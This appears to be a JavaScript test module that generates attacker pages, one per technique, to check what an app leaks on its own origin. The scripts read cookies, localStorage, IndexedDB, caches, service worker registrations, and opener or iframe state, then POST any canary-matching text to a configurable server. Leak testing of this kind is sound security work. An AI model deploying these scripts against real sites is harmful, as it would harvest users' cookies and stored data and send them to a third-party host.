// Pages of the attacker on the app's own origin: under no policy, they tell the server
// what they can see of it. Each is a text, as the server or a folder holds it.

const page = (script) => `<!doctype html><meta charset="utf-8"><title>x</title><script>\n${script}\n</script>`;

// tell sends a text once.
const tell = `
const told = new Set();
function tell(text) {
  if (!/m\\d{5}z/.test(text) || told.has(text)) return;
  told.add(text);
  fetch(SERVER + "told", { method: "POST", mode: "no-cors", body: text });
}
const attempt = async (read) => { try { tell(String(await read())); } catch { /* not there */ } };
`;

// tab looks at everything that an origin shares.
const tab = `${tell}
new BroadcastChannel("leak").onmessage = (e) => tell(e.data);
const look = () => Promise.all([
  attempt(() => Object.keys(localStorage)),
  attempt(() => document.cookie),
  attempt(async () => (await indexedDB.databases()).map((d) => d.name)),
  attempt(async () => { const names = []; for await (const name of (await navigator.storage.getDirectory()).keys()) names.push(name); return names; }),
  attempt(() => caches.keys()),
  attempt(() => navigator.storageBuckets.keys()),
  attempt(async () => (await navigator.locks.query()).held.map((l) => l.name)),
  attempt(async () => (await navigator.serviceWorker.getRegistrations()).map((r) => r.scope)),
  attempt(async () => Promise.all((await navigator.serviceWorker.getRegistrations()).map(async (r) => (await r.navigationPreload.getState()).headerValue))),
]);
`;

// opener opens the app, host shows it in a frame; both read what they may.
const opener = `${tell}
onmessage = (e) => tell(e.data);
const app = open(new URLSearchParams(location.search).get("app"));
setInterval(() => { attempt(() => app.name); attempt(() => app.document.title); }, 100);
`;

const host = `${tell}
onmessage = (e) => tell(e.data);
const frame = document.createElement("iframe");
frame.src = new URLSearchParams(location.search).get("app");
addEventListener("DOMContentLoaded", () => document.body.append(frame));
setInterval(() => { attempt(() => frame.contentDocument.title); attempt(() => frame.contentWindow.location.hash); }, 100);
`;

// A shared worker that tells what it is told.
const shared = `${tell}
onconnect = (e) => (e.ports[0].onmessage = ({ data }) => tell(data));
`;

// files returns the attacker's files by name, for a server's address.
export function files(server) {
  const told = (text) => text.replaceAll("SERVER", JSON.stringify(server));
  return {
    "tab.html": page(told(tab)),
    "opener.html": page(told(opener)),
    "host.html": page(told(host)),
    "shared.js": told(shared),
  };
}
